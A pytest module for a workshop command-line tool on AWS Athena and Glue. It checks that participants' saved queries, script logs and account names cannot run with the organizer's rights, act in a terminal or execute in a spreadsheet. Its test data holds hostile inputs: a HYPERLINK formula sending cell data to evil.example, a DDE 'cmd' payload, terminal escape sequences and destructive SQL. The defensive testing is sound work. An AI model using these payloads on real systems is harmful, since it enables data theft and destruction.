"""What participants can write, against the organizer's commands: with the participants' policy.

The tests of this module share one environment and run in their order.
"""

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import boto3
import pytest

from release.event_template import body
from tests.support.checkout import Checkout, owner_of
from tests.support.participant import (
    BUCKET,
    DATABASE,
    JOB,
    SCRIPT,
    STACK,
    WORKGROUP,
    Client,
    participant,
)
from tests.support.templates import event_template
from workshop import queries, readiness
from workshop.account import Account
from workshop.environment import find
from workshop.errors import WorkshopError

# A title, a cursor position by a C1 control, and a mark that turns the text after it.
ESCAPES = "\x1b]0;OWNED\x07\x9b7;7H\u202e"
SHOWN = r"\u001b]0;OWNED\u0007\u009b7;7H\u202e"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
OF_STACK = ("--stack", STACK)


@dataclass
class Event:
    """An environment, its owner's session and a participant's clients."""

    checkout: Checkout
    owner: boto3.Session
    participant: Client

    def save(self, name: str, sql: str, **more: str) -> None:
        """Save a query as a participant does."""
        self.participant("athena").create_named_query(
            Name=name, WorkGroup=WORKGROUP, Database=DATABASE, QueryString=sql, **more
        )

    def run(self, *words: str, code: int = 0) -> subprocess.CompletedProcess[str]:
        return self.checkout.run(*words, *OF_STACK, code=code)

    def on_a_terminal(self, *words: str, typed: str = "") -> tuple[int, str]:
        """Run a command where both its input and its output are a terminal."""
        ours, theirs = pty.openpty()
        process = subprocess.Popen(
            [sys.executable, "-m", "workshop", *words, *OF_STACK],
            cwd=self.checkout.path,
            env=self.checkout.environment(TERM="xterm-256color", COLUMNS="300", LINES="50"),
            stdin=theirs,
            stdout=theirs,
            stderr=theirs,
            close_fds=True,
        )
        os.close(theirs)
        os.write(ours, typed.encode())
        output = b"".join(iter(lambda: _read(ours), b""))
        os.close(ours)
        return process.wait(timeout=60), output.decode()

    def databases(self) -> set[str]:
        found: Any = self.owner.client("glue").get_databases()["DatabaseList"]
        return {database["Name"] for database in found}

    def put(self, key: str, content: bytes) -> None:
        self.owner.client("s3").put_object(Bucket=BUCKET, Key=key, Body=content)


def _read(terminal: int) -> bytes:
    try:
        return os.read(terminal, 65536)
    except OSError:  # how Linux says that nobody writes any more
        return b""


@pytest.fixture(scope="module")
def event(checkout: Checkout) -> Iterator[Event]:
    with owner_of(checkout.server) as owner:
        cloudformation = owner.client("cloudformation")
        cloudformation.create_stack(
            StackName=STACK,
            TemplateBody=body(event_template()).decode(),
            Capabilities=["CAPABILITY_IAM"],
        )
        cloudformation.get_waiter("stack_create_complete").wait(
            StackName=STACK, WaiterConfig={"Delay": 1}
        )
        yield Event(checkout, owner, participant(owner))


def test_the_lesson_s_number_runs_the_lesson_s_query(event: Event) -> None:
    """A participant's statement would run with the organizer's rights, or nothing would run."""
    event.save("02", "CREATE DATABASE pwned")
    event.save("02a Totals", "CREATE DATABASE pwned")
    (answer,) = json.loads(event.run("query", "02", "--json").stdout)
    assert answer["name"] == "02 Which event types are there"
    assert answer["rows"]
    assert "pwned" not in event.databases()


def test_all_runs_nothing_but_the_stack_s_queries(event: Event) -> None:
    """The answer to a participant's query would be theirs to read in athena-results/."""
    event.save("00 Salaries", "SELECT 'salaries' AS secret")
    event.save("-- nothing", "-- nothing")
    event.save("Blank lines", "\n" * 262_100 + "SELECT 1")
    answers = json.loads(event.run("query", "--all", "--json").stdout)
    assert len(answers) == 15
    assert all(re.match(r"(0[1-36-9]|1[0-7]) ", answer["name"]) for answer in answers)
    assert "secret" not in {column for answer in answers for column in answer["columns"]}


def test_others_queries_are_listed_as_such(event: Event) -> None:
    """An organizer who cannot tell them from the lesson's trusts them."""
    event.save(f"03x {ESCAPES}", "SELECT 1", Description=f"{ESCAPES} [red]not red[/]")
    lesson, added = event.run("query").stdout.split("Not the stack's")
    assert "17 Is it enough to train" in lesson
    assert "Totals" not in lesson
    assert "02a Totals" in added
    assert f"03x {SHOWN}" in added
    assert f"{SHOWN} [red]not red[/]" in added
    listed = json.loads(event.run("query", "--json").stdout)
    assert [one["origin"] for one in listed[:17]] == ["stack"] * 17
    assert {one["origin"] for one in listed[17:]} == {"added"}


def test_another_s_query_runs_by_its_whole_name_and_with_consent(event: Event) -> None:
    """Who runs it must have seen what it does."""
    refused = event.run("query", "02a Totals", code=1).stderr
    assert "CREATE DATABASE pwned" in refused
    assert "--yes" in refused
    assert event.run("query", "02a", code=1).stderr.count("CREATE") == 0
    status, shown = event.on_a_terminal("query", "02a Totals", typed="n\n")
    assert status == 1
    assert "CREATE DATABASE pwned" in shown
    assert "pwned" not in event.databases()
    status, _ = event.on_a_terminal("query", "02a Totals", typed="y\n")
    assert status == 0
    assert "pwned" in event.databases()
    event.owner.client("glue").delete_database(Name="pwned")
    event.run("query", "02a Totals", "--yes")
    assert "pwned" in event.databases()


@pytest.mark.parametrize("sql", ["-- \n" * 5000 + "DROP TABLE interactions", "\n \n"])
def test_what_nobody_can_read_does_not_run(event: Event, sql: str) -> None:
    """Thousands of lines before the one that matters are as good as none shown."""
    name = f"Long {len(sql)}"
    event.save(name, sql)
    error = event.run("query", name, "--yes", code=1).stderr
    assert "--sql" in error
    assert len(error) < 1000


def test_two_queries_of_one_name_are_not_guessed_at(event: Event) -> None:
    """Another could be saved between reading the one and running it."""
    event.save("Twice", "SELECT 1")
    event.save("Twice", "SELECT 2")
    assert "2 saved queries have the name 'Twice'" in event.run("query", "Twice", code=1).stderr


@pytest.mark.parametrize("words", [("query",), ("query", "--csv"), ("query", "nothing")])
def test_nothing_that_was_saved_acts_in_a_terminal(event: Event, words: tuple[str, ...]) -> None:
    """A title, a colour or a cleared line can hide what an organizer must see."""
    _, shown = event.on_a_terminal(*words)
    assert "OWNED" not in shown or SHOWN in shown
    for active in ("\x1b]", "\x07", "\x9b", "\u202e"):
        assert active not in shown


def test_csv_is_exact_in_a_pipe_and_inert_for_a_spreadsheet(event: Event) -> None:
    """A program needs the bytes; a spreadsheet would run some of them."""
    values = [FORMULA, "-5", "-5e3", "+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\uff1d1", "fine"]
    texts = ", ".join("'{}'".format(value.replace("'", "''")) for value in values)
    sql = f"SELECT * FROM (VALUES ({texts})) AS t (a, b, c, d, e, f, g, h)"
    exact = event.run("query", "--csv", "--sql", sql).stdout
    assert list(csv.reader(io.StringIO(exact)))[1] == values
    safe = event.run("query", "--spreadsheet", "--sql", sql).stdout
    assert list(csv.reader(io.StringIO(safe)))[1] == [
        value if value in {"-5", "-5e3", "fine"} else f"'{value}" for value in values
    ]


def test_the_fleet_s_results_are_inert_in_a_spreadsheet(event: Event, tmp_path: Path) -> None:
    """The names of accounts come from whoever made them."""
    accounts, results = tmp_path / "accounts.csv", tmp_path / "results.csv"
    quoted = FORMULA.replace('"', '""')
    accounts.write_text(f'account_id,region,name\n111122223333,,"{quoted}"\n')
    event.run("fleet", "check", "--accounts", str(accounts), "--csv", str(results))
    (row,) = csv.DictReader(io.StringIO(results.read_text()))
    assert row["name"] == f"'{FORMULA}"
    assert row["state"] == "ready"


def test_an_account_s_name_does_not_act_in_a_terminal(event: Event, tmp_path: Path) -> None:
    """One name could clear the screen over the accounts that are not ready."""
    accounts = tmp_path / "accounts.csv"
    lines = [f"111122223333,,One {ESCAPES}", f"999988887777,,Other {ESCAPES}"]
    accounts.write_text("account_id,region,name\n" + "\n".join(lines))
    status, shown = event.on_a_terminal("fleet", "check", "--accounts", str(accounts))
    assert status == 1
    assert f"Other {SHOWN}" in shown
    for active in ("\x1b]", "\x07", "\x9b", "\u202e"):
        assert active not in shown


@pytest.fixture
def changed(event: Event) -> Callable[[str, str, str], Account]:
    """The environment as Athena answers after UpdateNamedQuery, which MiniStack does not have."""

    def update(number: str, key: str, value: str) -> Account:
        credentials = event.owner.get_credentials()
        assert credentials
        session = boto3.Session(
            credentials.access_key, credentials.secret_key, region_name=event.owner.region_name
        )

        def answered(parsed: dict[str, Any], **_: object) -> None:
            for query in parsed["NamedQueries"]:
                if query["Name"].startswith(number):
                    query[key] = value

        session.events.register("after-call.athena.BatchGetNamedQuery", answered)
        return Account(session, event.checkout.endpoint)

    return update


@pytest.mark.parametrize(
    ("number", "key", "value"),
    [
        ("03 ", "QueryString", "DROP TABLE interactions"),
        ("05 ", "QueryString", "CREATE EXTERNAL TABLE mine (a string) LOCATION 's3://mine/'"),
        ("03 ", "Database", "default"),
        ("03 ", "Name", "02 Which event types are there"),
    ],
)
def test_the_stack_s_query_is_the_stack_s_while_it_says_what_was_deployed(
    changed: Callable[[str, str, str], Account], number: str, key: str, value: str
) -> None:
    """A changed query keeps its id, and would run as if it were the lesson's."""
    account = changed(number, key, value)
    environment = find(account, STACK)
    own = queries.own(account, environment)
    assert len(own) == 16
    assert all(not query.name.startswith(number) for query in own)
    first = next(queries.others(account, environment))
    assert first.origin == "changed"
    with pytest.raises(WorkshopError, match="No saved query matches"):
        queries.choose(own, [], number)
    failed = [check for check in readiness.check(account, environment) if not check.passed]
    assert [check.found for check in failed] == [f"Athena{number.strip()} is not as deployed"]


def test_a_deleted_query_is_missed_and_the_others_run(event: Event) -> None:
    """One that is gone must not make way for a participant's of the same number."""
    athena = event.owner.client("athena")
    ids = athena.list_named_queries(WorkGroup=WORKGROUP)["NamedQueryIds"]
    saved = athena.batch_get_named_query(NamedQueryIds=ids[:50])["NamedQueries"]
    (query,) = (one for one in saved if one["Name"] == "06 Events a day by source")
    athena.delete_named_query(NamedQueryId=query["NamedQueryId"])
    event.save("06 Events a day by source", "CREATE DATABASE pwned_again")
    assert "no Athena06" in event.run("status", code=1).stderr
    assert len(json.loads(event.run("query", "--all", "--json").stdout)) == 14
    assert "No saved query matches" in event.run("query", "06", code=1).stderr
    assert "--yes" in event.run("query", "06 Events a day by source", code=1).stderr
    assert "pwned_again" not in event.databases()


def test_another_stack_s_name_is_an_error_with_a_next_step(event: Event) -> None:
    """A traceback about an output helps nobody."""
    event.owner.client("cloudformation").create_stack(
        StackName="Another",
        TemplateBody='{"Resources": {"Log": {"Type": "AWS::Logs::LogGroup"}}}',
    )
    error = event.checkout.run("status", "--stack", "Another", code=1).stderr
    assert "has no output BucketName" in error


def _with_script(event: Event, script: str) -> None:
    """Edit the script as a participant does."""
    event.participant("s3").put_object(Bucket=BUCKET, Key=SCRIPT, Body=script.encode())


def test_an_edited_script_s_log_neither_acts_nor_stops_anything(event: Event) -> None:
    """The log lines and the accounting are whatever a participant's script prints."""
    lines = [f"hello {ESCAPES} [red]x[/] [/oops]", 'ACCOUNTING {"a": {"b": "c"}}', "bye"]
    _with_script(event, f"for line in {lines!a}:\n    print(line)\n")
    status, shown = event.on_a_terminal("run-job")
    assert status == 0
    assert f"hello {SHOWN} [red]x[/] [/oops]" in shown
    for active in ("\x1b]", "\x07", "\x9b", "\u202e"):
        assert active not in shown
    assert shown.count("cannot be read") == 1
    last = json.loads(event.run("status", "--json", code=1).stdout)["last_run"]
    assert last["state"] == "SUCCEEDED"
    assert last["accounting"] is None
    assert "not an object with records_read" in last["complaint"]


def test_a_hostile_csv_is_read_to_its_end_and_complained_of(event: Event) -> None:
    """A participant's job run may write anything into transformed/."""
    header = b"USER_ID,ITEM_ID,EVENT_TYPE,TIMESTAMP\n"
    event.put("transformed/a.csv", header + b"u,i,e," + b"1" * 5000 + b"\n")
    event.put("transformed/b.csv", header + b"u,i,e,1700000000\n" + b"x" * 2**24)
    event.put(f"transformed/{ESCAPES}", b"")
    failed = event.run("verify", code=1)
    assert "a.csv, line 2: a number of 5,000 digits" in failed.stdout
    assert "b.csv, line 3 has more than 1,048,576 characters" in failed.stdout
    assert SHOWN in failed.stdout


def test_the_report_is_written_privately_and_says_what_cannot_be_read(event: Event) -> None:
    """It names people; and an edited script must not take it away from the organizer."""
    build = event.checkout.path / "build"
    build.mkdir(exist_ok=True)
    build.chmod(0o755)
    for name in ("summary.json", "report.html"):
        (build / name).write_text("{}")
        (build / name).chmod(0o644)
    error = event.run("report", code=1).stderr
    assert "Athena did not answer" in error
    modes = {path.name: path.stat().st_mode & 0o777 for path in (build, *build.iterdir())}
    assert modes == {"build": 0o700, "local": 0o700, "summary.json": 0o600, "report.html": 0o600}
    page = (build / "report.html").read_text()
    assert "The accounting of the job cannot be read" in page
    assert "a.csv, line 2: a number of 5,000 digits" in page
    assert "02 Which event types are there" in page
    assert "salaries" not in page


@pytest.mark.parametrize(
    "command",
    [
        {"Name": "glueetl"},
        {"Name": "glueetl", "ScriptLocation": "s3://"},
        {"Name": "glueetl", "ScriptLocation": "s3://no_such bucket/x"},
        {"Name": "glueetl", "ScriptLocation": "s3://somebody-elses/x"},
        {"Name": "glueetl", "ScriptLocation": f"s3://{BUCKET}/{'x' * 3000}"},
    ],
)
def test_an_edited_job_is_a_failed_check(event: Event, command: dict[str, str]) -> None:
    """Its arguments and its script's place are the participants' to change."""
    glue = event.participant("glue")
    job = glue.get_job(JobName=JOB)["Job"]
    update = {"Role": job["Role"], "Command": command}
    glue.update_job(JobName=JOB, JobUpdate=update)
    error = event.run("status", code=1).stderr
    assert re.search(r"Job \((no script that can be read at|HeadObject says)", error)
    assert "Next:" in event.run("run-job", "--number-of-workers", "3", code=1).stderr
